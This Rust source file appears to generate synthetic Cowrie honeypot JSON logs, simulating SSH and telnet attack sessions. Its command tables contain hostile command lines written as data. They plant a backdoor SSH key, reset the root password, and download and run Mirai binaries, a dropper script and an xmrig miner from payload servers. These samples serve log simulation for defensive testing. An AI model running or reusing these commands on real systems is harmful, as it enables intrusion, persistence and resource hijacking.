//! Cowrie honeypot JSON lines (`cowrie.json`), as Cowrie 2.x/3.x writes them.
//!
//! A discrete-event simulation: sessions arrive at random, each walks connect → client
//! version/kex → failed logins → maybe a successful login → commands → downloads → close, and
//! concurrent sessions interleave in time order as in a real log. Only open sessions are held.

use std::cmp::Reverse;
use std::collections::BinaryHeap;
use std::io::{self, BufWriter, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use crate::ctx::{Ctx, Fam, Host};
use crate::json::{jdisp, jesc, jstr};
use crate::rng::{R, mix};
use crate::shadowserver::{CREDS, SSH_CLIENTS};
use crate::text::Hex;
use crate::time::write_iso_z;
use crate::{EventSpec, World};

/// What follows a command: nothing, a download of `file` from a payload server, or a shell
/// redirection Cowrie logs as a download with only `destfile`.
#[derive(Clone, Copy, PartialEq)]
enum After {
    None,
    Get(&'static str),
    Redir(&'static str),
}

/// A command line; `{ip}` in the text stands for the payload server (split into two parts).
type Cmd = (&'static str, &'static str, After);

const RECON: &[Cmd] = &[
    ("cd ~; chattr -ia .ssh; lockr -ia .ssh", "", After::None),
    (
        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
        "",
        After::None,
    ),
    ("cat /proc/cpuinfo | grep name | wc -l", "", After::None),
    ("echo \"root:wnBj9x3QsCkR\"|chpasswd|bash", "", After::None),
    ("free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", "", After::None),
    ("ls -lh $(which ls)", "", After::None),
    ("crontab -l", "", After::None),
    ("w", "", After::None),
    ("uname -m", "", After::None),
    ("top", "", After::None),
    ("uname -a", "", After::None),
    ("whoami", "", After::None),
    ("lscpu | grep Model", "", After::None),
    ("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", "", After::None),
];
const MIRAI: &[Cmd] = &[
    ("enable", "", After::None),
    ("system", "", After::None),
    ("shell", "", After::None),
    ("sh", "", After::None),
    ("cat /proc/mounts; /bin/busybox ECCHI", "", After::None),
    ("cd /tmp; echo -e '\\x41\\x4b\\x34\\x37' > .s; cat .s", "", After::Redir(".s")),
    (
        "/bin/busybox wget http://",
        "/bins/mirai.arm7 -O - > dvrHelper; chmod 777 dvrHelper; ./dvrHelper telnet.arm7",
        After::Get("bins/mirai.arm7"),
    ),
    ("/bin/busybox ECCHI", "", After::None),
];
const DROPPER: &[Cmd] = &[
    ("uname -a", "", After::None),
    (
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://",
        "/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
        After::Get("bins.sh"),
    ),
    ("history -c", "", After::None),
    ("exit", "", After::None),
];
const MINER: &[Cmd] = &[
    ("nproc", "", After::None),
    (
        "curl -s http://",
        "/xmrig.tar.gz -o /tmp/.x.tgz; mkdir -p /tmp/.x; tar xzf /tmp/.x.tgz -C /tmp/.x; /tmp/.x/xmrig -o pool.example.net:3333 --background",
        After::Get("xmrig.tar.gz"),
    ),
    ("ps aux | grep xmrig", "", After::None),
];
const SCRIPTS: &[(&[Cmd], u32)] = &[(RECON, 45), (MIRAI, 25), (DROPPER, 20), (MINER, 10)];

/// Client key-exchange profiles: `(hassh algorithms, kex, host key algorithms, ciphers, macs)`.
type Kex =
    (&'static str, &'static [&'static str], &'static [&'static str], &'static [&'static str], &'static [&'static str]);
const KEX: &[Kex] = &[
    (
        "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha1;aes128-gcm@openssh.com,aes128-ctr;hmac-sha2-256,hmac-sha1;none",
        &["curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha1"],
        &["ssh-rsa", "ecdsa-sha2-nistp256", "ssh-ed25519"],
        &["aes128-gcm@openssh.com", "aes128-ctr"],
        &["hmac-sha2-256", "hmac-sha1"],
    ),
    (
        "curve25519-sha256,diffie-hellman-group16-sha512,diffie-hellman-group14-sha256;aes256-ctr,aes192-ctr,aes128-ctr;hmac-sha2-256-etm@openssh.com,hmac-sha2-256;none,zlib@openssh.com",
        &["curve25519-sha256", "diffie-hellman-group16-sha512", "diffie-hellman-group14-sha256"],
        &["rsa-sha2-512", "rsa-sha2-256", "ssh-ed25519"],
        &["aes256-ctr", "aes192-ctr", "aes128-ctr"],
        &["hmac-sha2-256-etm@openssh.com", "hmac-sha2-256"],
    ),
    (
        "diffie-hellman-group1-sha1,diffie-hellman-group14-sha1;aes128-cbc,3des-cbc;hmac-md5,hmac-sha1;none",
        &["diffie-hellman-group1-sha1", "diffie-hellman-group14-sha1"],
        &["ssh-rsa", "ssh-dss"],
        &["aes128-cbc", "3des-cbc"],
        &["hmac-md5", "hmac-sha1"],
    ),
];

const SENSOR_CITIES: &[&str] = &["tokyo", "osaka", "nagoya", "fukuoka", "sapporo", "sendai", "hiroshima", "naha"];

struct Sensor {
    name: String,
    v4: IpAddr,
    v6: IpAddr,
}

#[derive(Clone, Copy, PartialEq)]
enum Step {
    Version,
    Kex,
    Login,
    Size,
    Params,
    Command,
    Download,
    LogClosed,
    Closed,
}

struct Session {
    id: u64,
    host: Host,
    sport: u16,
    sensor: usize,
    telnet: bool,
    dport: u16,
    step: Step,
    fails_left: u32,
    success: bool,
    script: &'static [Cmd],
    cmd: usize,
    cmds: usize,
    payload: IpAddr,
    client: &'static str,
    kex: usize,
    start_us: i64,
    cred_seed: u64,
}

/// Write `spec.lines` Cowrie JSON lines (one event per line) for sessions starting in
/// `[start, start + span)`. Sessions still open when the line budget runs out stay unclosed,
/// as in a log cut at rotation; the last lines close as many sessions as they can.
pub fn cowrie(world: &World, spec: &EventSpec, out: &mut impl Write) -> io::Result<()> {
    let ctx = Ctx::new(world, spec, 0x000c_071e, Fam::Mixed);
    let mut r = R::derive(spec.seed, 0x000c_071e_5e55);
    let mut w = BufWriter::with_capacity(1 << 16, out);
    let sensors: Vec<Sensor> = SENSOR_CITIES
        .iter()
        .enumerate()
        .map(|(i, city)| {
            let (v4, v6) = if i.is_multiple_of(2) {
                (ctx.infrastructure(&mut r, false).0, ctx.infrastructure(&mut r, true).0)
            } else {
                let x = r.u64();
                (
                    IpAddr::V4(Ipv4Addr::new(10, (x >> 8) as u8, (x >> 16) as u8, 2 + (x as u8 % 250))),
                    IpAddr::V6(Ipv6Addr::new(0xfd00, (x >> 24) as u16, 0, 0, 0, 0, 0, 2)),
                )
            };
            Sensor { name: format!("hp-{city}-{:02}", 1 + i / SENSOR_CITIES.len()), v4, v6 }
        })
        .collect();
    let payload: Vec<IpAddr> = (0..24).map(|_| ctx.infrastructure(&mut r, false).0).collect();

    let start_us = spec.start.saturating_mul(1_000_000);
    let span_us = (spec.span_secs.max(1) as f64) * 1e6;
    let end_us = start_us + span_us as i64;
    let mut sessions = 0u64;
    const CAP: usize = 50_000;

    let mut slots: Vec<Session> = Vec::new();
    let mut free: Vec<usize> = Vec::new();
    let mut heap: BinaryHeap<Reverse<(i64, usize)>> = BinaryHeap::new();
    let mut next_arrival = start_us;
    let mut emitted = 0u64;
    while emitted < spec.lines {
        let remaining = spec.lines - emitted;
        let closing = remaining as usize <= heap.len();
        let take_session = match heap.peek() {
            Some(Reverse((t, _))) => closing || *t <= next_arrival || heap.len() >= CAP,
            None => false,
        };
        if !take_session {
            // A new connection.
            let t = next_arrival;
            // Pace arrivals so the line budget lasts the whole span, from the lines per
            // session seen so far.
            sessions += 1;
            let per_session = (emitted + 100) as f64 / (sessions + 9) as f64;
            let left_sessions = ((spec.lines - emitted) as f64 / per_session).max(1.0);
            let gap_us = ((end_us - t).max(0) as f64 / left_sessions).max(1_000.0);
            next_arrival += r.exp(gap_us).max(1.0) as i64;
            let host = ctx.host(ctx.pick_host(&mut r));
            let mut hr = R::derive(host.bits, 7);
            let telnet = hr.chance(0.25);
            let s = Session {
                id: r.u64() >> 16,
                host,
                sport: r.range(1_024, 65_535) as u16,
                sensor: r.index(sensors.len()),
                telnet,
                dport: match (telnet, r.below(10)) {
                    (false, 0..=6) => 22,
                    (false, _) => 2222,
                    (true, 0..=6) => 23,
                    (true, _) => 2323,
                },
                step: if telnet { Step::Login } else { Step::Version },
                fails_left: (r.exp(2.5) as u32).min(12),
                success: r.chance(0.35),
                script: hr.weighted::<&[Cmd]>(SCRIPTS),
                cmd: 0,
                cmds: 0,
                payload: payload[hr.index(payload.len())],
                client: hr.weighted::<&str>(SSH_CLIENTS),
                kex: hr.index(KEX.len()),
                start_us: t,
                cred_seed: r.u64(),
            };
            let mut s = s;
            s.cmds = if r.chance(0.6) { s.script.len() } else { r.range(1, s.script.len() as u64) as usize };
            if !s.success && s.fails_left == 0 {
                s.fails_left = 1;
            }
            let sensor = &sensors[s.sensor];
            let dst = if s.host.ip.is_ipv6() { sensor.v6 } else { sensor.v4 };
            connect(&mut w, &s, dst, &sensor.name, t)?;
            emitted += 1;
            let slot = match free.pop() {
                Some(i) => {
                    slots[i] = s;
                    i
                }
                None => {
                    slots.push(s);
                    slots.len() - 1
                }
            };
            let delay = r.range(30_000, 400_000) as i64;
            heap.push(Reverse((t + delay, slot)));
            continue;
        }
        let Some(Reverse((t, slot))) = heap.pop() else { break };
        let s = &mut slots[slot];
        if closing {
            s.step = Step::Closed;
        }
        let sensor = &sensors[s.sensor].name;
        let next = step(&mut w, &mut r, s, sensor, t)?;
        emitted += 1;
        match next {
            Some(delay) => heap.push(Reverse((t + delay, slot))),
            None => free.push(slot),
        }
    }
    w.flush()
}

fn connect(w: &mut impl Write, s: &Session, dst: IpAddr, sensor: &str, t: i64) -> io::Result<()> {
    w.write_all(b"{\"eventid\":\"cowrie.session.connect\",\"src_ip\":")?;
    jdisp(&mut *w, s.host.ip)?;
    write!(w, ",\"src_port\":{},\"dst_ip\":\"{dst}\",\"dst_port\":{},\"session\":\"{:012x}\"", s.sport, s.dport, s.id)?;
    write!(w, ",\"protocol\":\"{}\"", if s.telnet { "telnet" } else { "ssh" })?;
    write!(
        w,
        ",\"message\":\"New connection: {}:{} ({dst}:{}) [session: {:012x}]\"",
        s.host.ip, s.sport, s.dport, s.id
    )?;
    tail(w, s, sensor, t, false)
}

/// `"sensor":…,"timestamp":…,"src_ip":…,"session":…}` and the newline.
fn tail(w: &mut impl Write, s: &Session, sensor: &str, t: i64, ids: bool) -> io::Result<()> {
    w.write_all(b",\"sensor\":")?;
    jstr(&mut *w, sensor)?;
    w.write_all(b",\"timestamp\":\"")?;
    write_iso_z(&mut *w, t)?;
    w.write_all(b"\"")?;
    if ids {
        write!(w, ",\"src_ip\":\"{}\",\"session\":\"{:012x}\"", s.host.ip, s.id)?;
    }
    w.write_all(b"}\n")
}

fn head(w: &mut impl Write, eventid: &str) -> io::Result<()> {
    write!(w, "{{\"eventid\":\"{eventid}\"")
}

/// Emit the session's next event; the delay until the one after, or `None` when closed.
fn step(w: &mut impl Write, r: &mut R, s: &mut Session, sensor: &str, t: i64) -> io::Result<Option<i64>> {
    match s.step {
        Step::Version => {
            head(w, "cowrie.client.version")?;
            write!(w, ",\"version\":\"{0}\",\"message\":\"Remote SSH version: {0}\"", s.client)?;
            tail(w, s, sensor, t, true)?;
            s.step = if r.chance(0.85) { Step::Kex } else { Step::Login };
            Ok(Some(r.range(20_000, 200_000) as i64))
        }
        Step::Kex => {
            let k = &KEX[s.kex];
            let hassh = Hex { seed: mix(s.kex as u64 + 11), bytes: 16 };
            head(w, "cowrie.client.kex")?;
            write!(w, ",\"hassh\":\"{hassh}\",\"hasshAlgorithms\":\"{}\"", k.0)?;
            list(w, "kexAlgs", k.1)?;
            list(w, "keyAlgs", k.2)?;
            list(w, "encCS", k.3)?;
            list(w, "macCS", k.4)?;
            w.write_all(b",\"compCS\":[\"none\"],\"langCS\":[\"\"]")?;
            write!(w, ",\"message\":\"SSH client hassh fingerprint: {hassh}\"")?;
            tail(w, s, sensor, t, true)?;
            s.step = Step::Login;
            Ok(Some(r.range(100_000, 1_500_000) as i64))
        }
        Step::Login => {
            let mut cr = R::derive(s.cred_seed, u64::from(s.fails_left));
            let (mut user, mut pass) = *cr.weighted(CREDS);
            // Cowrie logs non-printable input escaped: `\x00` arrives as four characters.
            if cr.chance(0.01) {
                (user, pass) = ("root", "\\x00\\x1b[A");
            }
            let failed = s.fails_left > 0;
            head(w, if failed { "cowrie.login.failed" } else { "cowrie.login.success" })?;
            w.write_all(b",\"username\":")?;
            jstr(&mut *w, user)?;
            w.write_all(b",\"password\":")?;
            jstr(&mut *w, pass)?;
            w.write_all(b",\"message\":")?;
            let verdict = if failed { "failed" } else { "succeeded" };
            // The message repeats the credentials, escaped the same way.
            w.write_all(b"\"login attempt [")?;
            jesc(w, user)?;
            w.write_all(b"/")?;
            jesc(w, pass)?;
            write!(w, "] {verdict}\"")?;
            tail(w, s, sensor, t, true)?;
            let delay = if s.telnet { r.range(800_000, 5_000_000) } else { r.range(300_000, 3_000_000) } as i64;
            if failed {
                s.fails_left -= 1;
                if s.fails_left == 0 && !s.success {
                    s.step = Step::Closed;
                }
                return Ok(Some(delay));
            }
            s.step = if s.telnet { Step::Command } else { Step::Size };
            Ok(Some(r.range(50_000, 600_000) as i64))
        }
        Step::Size => {
            head(w, "cowrie.client.size")?;
            w.write_all(b",\"width\":80,\"height\":24,\"message\":\"Terminal Size: 80 24\"")?;
            tail(w, s, sensor, t, true)?;
            s.step = Step::Params;
            Ok(Some(r.range(1_000, 50_000) as i64))
        }
        Step::Params => {
            head(w, "cowrie.session.params")?;
            w.write_all(b",\"arch\":\"linux-x64-lsb\",\"message\":[]")?;
            tail(w, s, sensor, t, true)?;
            s.step = Step::Command;
            Ok(Some(r.range(200_000, 2_000_000) as i64))
        }
        Step::Command => {
            let (a, b, after) = s.script[s.cmd];
            head(w, "cowrie.command.input")?;
            w.write_all(b",\"input\":\"")?;
            cmd_text(w, a, b, after, s.payload)?;
            w.write_all(b"\",\"message\":\"CMD: ")?;
            cmd_text(w, a, b, after, s.payload)?;
            w.write_all(b"\"")?;
            tail(w, s, sensor, t, true)?;
            if after != After::None {
                s.step = Step::Download;
                return Ok(Some(r.range(500_000, 8_000_000) as i64));
            }
            s.cmd += 1;
            s.step = if s.cmd >= s.cmds { Step::LogClosed } else { Step::Command };
            Ok(Some(r.range(200_000, 3_000_000) as i64))
        }
        Step::Download => {
            let (_, _, after) = s.script[s.cmd];
            let sha = Hex { seed: mix(ip_bits(s.payload) ^ s.cmd as u64 ^ (s.script.len() as u64) << 32), bytes: 32 };
            head(w, "cowrie.session.file_download")?;
            match after {
                After::Get(file) => {
                    let name = file.rsplit('/').next().unwrap_or(file);
                    write!(w, ",\"url\":\"http://{}/{file}\"", s.payload)?;
                    write!(w, ",\"outfile\":\"var/lib/cowrie/downloads/{sha}\",\"shasum\":\"{sha}\"")?;
                    write!(w, ",\"destfile\":\"{name}\"")?;
                    write!(
                        w,
                        ",\"message\":\"Downloaded URL (http://{}/{file}) with SHA-256 {sha} to var/lib/cowrie/downloads/{sha}\"",
                        s.payload
                    )?;
                }
                After::Redir(_) | After::None => {
                    write!(w, ",\"outfile\":\"var/lib/cowrie/downloads/{sha}\",\"shasum\":\"{sha}\"")?;
                    write!(w, ",\"destfile\":\"{file}\"", file = if let After::Redir(f) = after { f } else { "" })?;
                    write!(
                        w,
                        ",\"message\":\"Saved redir contents with SHA-256 {sha} to var/lib/cowrie/downloads/{sha}\""
                    )?;
                }
            }
            tail(w, s, sensor, t, true)?;
            s.cmd += 1;
            s.step = if s.cmd >= s.cmds { Step::LogClosed } else { Step::Command };
            Ok(Some(r.range(200_000, 2_000_000) as i64))
        }
        Step::LogClosed => {
            let d = (t - s.start_us) as f64 / 1e6;
            let sha = Hex { seed: s.id ^ 0x77, bytes: 32 };
            head(w, "cowrie.log.closed")?;
            write!(w, ",\"ttylog\":\"var/lib/cowrie/tty/{sha}\",\"size\":{},\"shasum\":\"{sha}\"", 200 + s.cmds * 431)?;
            write!(w, ",\"duplicate\":{},\"duration\":{d}", s.script.len() == s.cmds && s.cmd.is_multiple_of(2))?;
            write!(w, ",\"message\":\"Closing TTY Log: var/lib/cowrie/tty/{sha} after {} seconds\"", d as u64)?;
            tail(w, s, sensor, t, true)?;
            s.step = Step::Closed;
            Ok(Some(r.range(1_000, 50_000) as i64))
        }
        Step::Closed => {
            let d = (t - s.start_us) as f64 / 1e6;
            head(w, "cowrie.session.closed")?;
            write!(w, ",\"duration\":{d},\"message\":\"Connection lost after {} seconds\"", d as u64)?;
            tail(w, s, sensor, t, true)?;
            Ok(None)
        }
    }
}

fn list(w: &mut impl Write, key: &str, xs: &[&str]) -> io::Result<()> {
    write!(w, ",\"{key}\":[")?;
    for (i, x) in xs.iter().enumerate() {
        if i > 0 {
            w.write_all(b",")?;
        }
        jstr(&mut *w, x)?;
    }
    w.write_all(b"]")
}

fn cmd_text(w: &mut impl Write, a: &str, b: &str, after: After, ip: IpAddr) -> io::Result<()> {
    jesc(w, a)?;
    if matches!(after, After::Get(_)) {
        write!(w, "{ip}")?;
        jesc(w, b)?;
    }
    Ok(())
}

fn ip_bits(ip: IpAddr) -> u64 {
    match ip {
        IpAddr::V4(v) => u64::from(u32::from(v)),
        IpAddr::V6(v) => u128::from(v) as u64,
    }
}
